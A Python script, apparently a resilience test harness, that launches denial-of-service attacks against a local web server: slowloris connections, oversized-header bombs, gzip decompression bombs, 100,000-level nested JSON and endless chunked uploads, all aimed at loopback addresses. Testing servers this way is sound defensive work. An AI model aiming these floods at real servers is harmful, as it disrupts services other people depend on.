#!/usr/bin/env python3
"""The attackers of flood.py, each a program of its own at the lowest priority: in earnest they have machines of their own.

usage: attackers.py <attack> <port> <seconds> <token>

Attacks for so many seconds at least, and until all of it is done; prints what came of it as JSON. From addresses of
loopback that nobody else here has.
"""

import gzip
import itertools
import json
import os
import resource
import selectors
import socket
import sys
import time

KIB = 1024
MIB = 1024 * KIB
SLOW = 1000
BOMBS = 10_000
PACKED = 1000
DEEP = 500
ENDLESS = 10 * 1024 * MIB


def addresses(network, count):
    """Round and round through so many addresses of 127.<network>.x.x."""
    return itertools.cycle([f"127.{network}.{number // 250}.{number % 250 + 1}" for number in range(count)])


def connect(port, address):
    connection = socket.socket()
    connection.bind((address, 0))
    connection.settimeout(30)
    connection.connect(("127.0.0.1", port))
    return connection


def ask(port, address, request):
    """The status of the answer; 0 when the server closed without one."""
    with connect(port, address) as connection:
        try:
            connection.sendall(request)
        except OSError:
            pass  # what it has to say is read all the same
        return status_of(connection)


def status_of(connection):
    answer = b""
    try:
        while b"\r\n" not in answer:
            piece = connection.recv(4096)
            if not piece:
                break
            answer += piece
    except OSError:
        pass
    return int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/1.1 ") else 0


def repeat(count, seconds, one):
    """Does one thing so often and so long; how often it was answered with which status."""
    statuses, began, done = {}, time.monotonic(), 0
    while done < count or time.monotonic() - began < seconds:
        status = one(done)
        statuses[status] = statuses.get(status, 0) + 1
        done += 1
    return {"statuses": statuses}


class Slow:
    """A head that never ends, a byte every three seconds."""

    def __init__(self, port, address):
        self.address, self.began = address, time.monotonic()
        self.connection = connect(port, address)
        self.connection.sendall(b"GET /api/auth/me HTTP/1.1\r\nhost: x\r\nx-slow: ")
        self.connection.setblocking(False)
        self.due = self.began + 3


def slow_loris(port, seconds, _token):
    """Holds SLOW connections at once; each that is closed begins anew."""
    selector, origin = selectors.DefaultSelector(), addresses(2, 10)
    closed, longest, said, most = 0, 0.0, 0, 0

    def begin():
        slow = Slow(port, next(origin))
        selector.register(slow.connection, selectors.EVENT_READ, slow)

    for _ in range(SLOW):
        begin()
    end = time.monotonic() + max(seconds, 15)
    while (now := time.monotonic()) < end:
        most = max(most, len(selector.get_map()))
        over = []
        for key, _ in selector.select(timeout=0.2):
            try:
                said += len(key.data.connection.recv(4096))
            except OSError:
                pass
            over.append(key.data)
        for slow in over:
            closed, longest = closed + 1, max(longest, time.monotonic() - slow.began)
            selector.unregister(slow.connection)
            slow.connection.close()
            begin()
        for key in list(selector.get_map().values()):
            if key.data.due < now:
                key.data.due = now + 3
                try:
                    key.data.connection.send(b"x")
                except OSError:
                    pass  # it is closed, which is seen above
    return {"held": most, "closed": closed, "longest": longest, "said": said}


def header_bombs(port, seconds, _token):
    """By turns more than is ever read, more than is allowed, and too many."""
    origin, first = addresses(3, 200), b"GET /health HTTP/1.1\r\nhost: x\r\nconnection: close\r\n"
    bombs = [
        first + b"x-long: " + b"a" * 40 * KIB + b"\r\n\r\n",
        first + b"".join(b"x-%d: %s\r\n" % (number, b"a" * 250) for number in range(80)) + b"\r\n",
        first + b"".join(b"x-%d: a\r\n" % number for number in range(5000)) + b"\r\n",
    ]
    return repeat(BOMBS, seconds, lambda number: ask(port, next(origin), bombs[number % len(bombs)]))


def gzip_bombs(port, seconds, token):
    """A hundred MiB in a hundred KiB, signed in and not."""
    origin, body = addresses(4, 50), gzip.compress(bytes(100 * MIB), 9)
    head = "POST {} HTTP/1.1\r\nhost: x\r\nconnection: close\r\n{}content-type: application/json\r\ncontent-encoding: gzip\r\n"
    heads = [head.format("/api/moods", f"authorization: Bearer {token}\r\n"), head.format("/api/csp-report", "")]
    requests = [f"{text}content-length: {len(body)}\r\n\r\n".encode() + body for text in heads]
    # The second is announced larger than that route takes.
    return repeat(PACKED, seconds, lambda number: ask(port, next(origin), requests[number % len(requests)]))


def deep_json(port, seconds, token):
    """A hundred thousand levels."""
    origin = addresses(5, 50)
    bodies = [b"[" * 100_000, b'{"a":' * 100_000]
    head = (
        f"POST /api/moods HTTP/1.1\r\nhost: x\r\nconnection: close\r\nauthorization: Bearer {token}\r\n"
        "content-type: application/json\r\ncontent-length: "
    )
    requests = [f"{head}{len(body)}\r\n\r\n".encode() + body for body in bodies]
    return repeat(DEEP, seconds, lambda number: ask(port, next(origin), requests[number % len(requests)]))


def endless_upload(port, seconds, token):
    """Uploads of ENDLESS bytes in chunks, of a recording and of JSON; how much of each was taken."""
    taken = {}
    part = (
        b'--b\r\nContent-Disposition: form-data; name="file"; filename="endless.wav"\r\nContent-Type: audio/wav\r\n\r\n'
        b"RIFF\xff\xff\xff\x7fWAVEfmt \x10\0\0\0\x01\0\x01\0\x80\x3e\0\0\0\x7d\0\0\x02\0\x10\0data\xff\xff\xff\x7f"
    )
    kinds = {"/api/recordings": ("multipart/form-data; boundary=b", part), "/api/moods": ("application/json", b'{"note":"')}
    filler = b"%x\r\n" % (64 * KIB) + b"a" * 64 * KIB + b"\r\n"

    def one(number):
        path = list(kinds)[number % len(kinds)]
        media, first = kinds[path]
        head = (
            f"POST {path} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {token}\r\ncontent-type: {media}\r\n"
            "transfer-encoding: chunked\r\n\r\n"
        )
        with connect(port, "127.6.0.1") as connection:
            sent = 0
            try:
                connection.sendall(head.encode() + b"%x\r\n" % len(first) + first + b"\r\n")
                connection.setblocking(False)
                with selectors.DefaultSelector() as selector:
                    selector.register(connection, selectors.EVENT_READ | selectors.EVENT_WRITE)
                    left = memoryview(filler)
                    while sent < ENDLESS:
                        (key, events), = selector.select(timeout=30)
                        if events & selectors.EVENT_READ:
                            break  # it has an answer
                        done = connection.send(left)
                        sent, left = sent + done, left[done:] or memoryview(filler)
            except (OSError, ValueError):
                pass  # it was cut off
            connection.setblocking(True)
            connection.settimeout(30)
            taken[path] = max(taken.get(path, 0), sent)
            return status_of(connection)

    return {**repeat(2 * len(kinds), seconds, one), "taken": taken}


ATTACKS = {attack.__name__: attack for attack in (slow_loris, header_bombs, gzip_bombs, deep_json, endless_upload)}


def main(attack, port, seconds, token):
    os.nice(19)
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    print(json.dumps(ATTACKS[attack](int(port), float(seconds), token)))


if __name__ == "__main__":
    main(*sys.argv[1:])
